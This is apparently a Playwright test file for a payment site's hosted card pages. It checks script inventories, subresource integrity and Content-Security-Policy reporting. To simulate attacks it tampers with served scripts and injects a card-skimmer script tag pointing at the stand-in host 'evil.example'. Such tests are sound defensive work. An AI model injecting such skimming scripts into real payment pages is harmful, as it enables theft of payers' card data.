"""Scripts on the payment pages: browsers run those of the inventory, refuse changed ones, and report blocked ones."""

import re
from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from hosted_page.page_security import inventory
from tests.browser.order import Order
from tests.browser.test_buying import GOOD, heading, pay, sign_in
from tests.browser.test_challenge import ASKS, go_to_the_card
from tests.journeys import polling
from tests.journeys.service import Service

pytestmark = pytest.mark.journey
# Returns the URLs of all script elements, and of all resources that were loaded as scripts.
RAN = """() => [
  ...[...document.scripts].map((script) => script.src || "inline"),
  ...performance.getEntriesByType("resource")
    .filter((loaded) => loaded.initiatorType === "script").map(({ name }) => name),
]"""
WITHOUT_INTEGRITY = (
    "() => [...document.scripts].filter((script) => !script.integrity).map((script) => script.src)"
)
PAGES = {
    "Your mobile number": "hosted_page/phone.html",
    "Enter the 6-digit code": "hosted_page/code.html",
    "Who’s in on this?": "hosted_page/split.html",
    "Pay by card": "bank/card.html",
    "Is this you?": "bank/challenge.html",
    "Held, not taken yet": "hosted_page/status.html",
}
REPORTS = """
from hosted_page.models import CspReport
print(sorted(CspReport.objects.values_list("page", "directive", "blocked")))
"""


class VisitedPages:
    """The pages that a browser has visited. The inventory must contain every script that ran on them."""

    def __init__(self) -> None:
        self.pages: set[str] = set()

    def look(self, page: Page) -> None:
        page.wait_for_load_state("load")
        template = PAGES[page.inner_text("h1").replace("\n", " ")]
        ran = {urlsplit(address).path.removeprefix("/static/") for address in page.evaluate(RAN)}
        assert ran == {script.name for script in inventory.scripts_of(template)}, template
        assert page.evaluate(WITHOUT_INTEGRITY) == []
        self.pages.add(template)


@pytest.mark.rule("card_page.inventory")
def test_browsers_run_the_scripts_of_the_inventory(order: Order, open_page: Callable[..., Page]) -> None:
    seen, page = VisitedPages(), open_page()
    page.goto(order.url)
    sign_in(page, seen.look)
    heading(page, "Who’s in on this?")
    seen.look(page)
    page.click("text=All mine")
    pay(page, ASKS, seen.look)
    heading(page, "Is this you?")
    seen.look(page)
    page.click("button:has-text('Confirm £')")
    heading(page, "Held, not taken yet")
    seen.look(page)
    assert seen.pages == set(PAGES.values())


@pytest.mark.rule("card_page.integrity")
def test_a_browser_refuses_changed_scripts_and_stylesheets(
    order: Order, open_page: Callable[..., Page]
) -> None:
    page = open_page(may_fail=True)
    refused: list[str] = []
    page.on("console", lambda line: refused.append(line.text) if "integrity" in line.text else None)

    def tamper(route: Route) -> None:
        answer = route.fetch()
        kind = route.request.resource_type
        added = "\nwindow.stolen = true;" if kind == "script" else "\nbody { display: none }"
        route.fulfill(response=answer, body=answer.text() + added)

    page.route(re.compile(r"/static/.*\.(js|css)$"), tamper)
    page.goto(order.url)
    page.wait_for_load_state("load")
    assert page.evaluate("window.stolen") is None
    expect(page.locator("h1")).to_be_visible()
    assert any("frame.js" in text for text in refused) and any(".css" in text for text in refused)


@pytest.mark.rule("card_page.reports")
def test_browsers_report_a_script_that_the_policy_blocked(
    service: Service, order: Order, open_page: Callable[..., Page]
) -> None:
    page = open_page(may_fail=True)
    go_to_the_card(page, order)
    heading(page, "Pay by card")
    inject = "const script = document.createElement('script'); script.src = 'https://evil.example/skim.js?card=4242';"
    page.evaluate(f"() => {{ {inject} document.head.append(script); }}")

    def reported() -> bool:
        return "('card form', 'script-src-elem', 'evil.example')" in service.command(
            "shell", "--command", REPORTS
        )

    polling.until(reported, within=10, what="the report in the database")


@pytest.mark.rule("card_page.daily_check")
def test_the_live_page_is_as_released(service: Service) -> None:
    assert "addresses answer as this release does." in service.command("check_card_page")


@pytest.mark.rule("card_page.integrity")
def test_a_payer_pays_with_every_file_checked(order: Order, open_page: Callable[..., Page]) -> None:
    page = open_page()
    go_to_the_card(page, order)
    pay(page, GOOD)
    heading(page, "Held, not taken yet")
